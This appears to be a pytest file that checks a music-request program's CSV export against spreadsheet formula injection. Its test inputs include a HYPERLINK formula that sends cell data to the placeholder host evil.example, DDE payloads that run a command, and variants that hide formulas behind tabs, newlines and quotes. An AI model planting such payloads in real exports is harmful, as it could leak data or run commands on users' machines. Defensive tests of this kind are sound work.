import csv
import io


def send(box, *wish):
    box.run("Rock Hour", *wish)
    text = box.text("rock-hour.csv") or ""
    box.write("rock-hour.csv", "")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def calculates(cells):
    return any(cell[:1] in tuple("=+-@\t\r") for cell in cells if cell)


def test_greeting(box):
    for text in ('=HYPERLINK("https://evil.example/?"&A1,"song")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)"):
        assert not calculates(send(box, "Can", "Vitamin C", text))


def test_artist_and_title(box):
    for text in ("=1+1", "+1", "-A1", "@A1", "=A1,B1"):
        assert not calculates(send(box, text, "Vitamin C", "-"))
        assert not calculates(send(box, "Can", text, "hi"))


def test_behind_another_sign(box):
    for text in ("==1+1", "\t=1+1", "-=@+1", "Can,=1+1", 'Can",=1+1,"', "-\t=1", "=\n=1+1", "a\n=1+1,2", "\n=1+1", " =1+1", "\r\n=1+1", "a\r=1+1"):
        for wish in ((text, "Vitamin C", "-"), ("Can", text, "-"), ("Can", "Vitamin C", text)):
            assert not calculates(send(box, *wish))
